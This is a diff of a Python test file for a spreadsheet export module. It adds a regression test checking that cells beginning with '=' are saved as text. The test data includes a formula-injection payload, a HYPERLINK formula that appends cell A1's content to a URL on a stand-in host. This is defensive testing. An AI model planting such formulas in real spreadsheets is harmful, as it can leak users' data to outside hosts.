@@ -8,10 +8,10 @@ from pathlib import Path
 
 import duckdb
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
 from ingest.output.export import (EXCEL_CELL_LIMIT, PIVOT_COLUMNS, PIVOT_SHEET, WIDTH_MAX, WIDTH_MIN, WORKBOOK_NAME,
-                           UnknownRegion, export, relations)
+                           UnknownRegion, _add_sheet, export, relations)
 from schemas import tables as t
 
 
@@ -196,3 +196,13 @@ def test_unknown_region_names_the_known_ones(con, db: Path, tmp_path: Path):
         export(db, tmp_path, "csv", [regions[0], "Атлантида"])
     assert "Атлантида" in str(info.value) and all(r in str(info.value) for r in regions)
     assert not any(tmp_path.iterdir()), "nothing is written when the filter is wrong"
+
+
+def test_xlsx_keeps_a_cell_that_starts_with_an_equals_sign_as_text(tmp_path: Path):
+    """A document's cell "=HYPERLINK(...)" was written as a formula, which Excel evaluates on opening."""
+    text = '=HYPERLINK("http://example.invalid/?"&A1, "подробнее")'
+    workbook = Workbook(write_only=True)
+    _add_sheet(workbook, t.Project.table, ["name", "row_no"], [(text, 1), ("=", 2)])
+    workbook.save(tmp_path / "formula.xlsx")
+    sheet = load_workbook(tmp_path / "formula.xlsx")[t.Project.table]
+    assert [(c.value, c.data_type) for c in sheet["A"]] == [("name", "s"), (text, "s"), ("=", "s")]
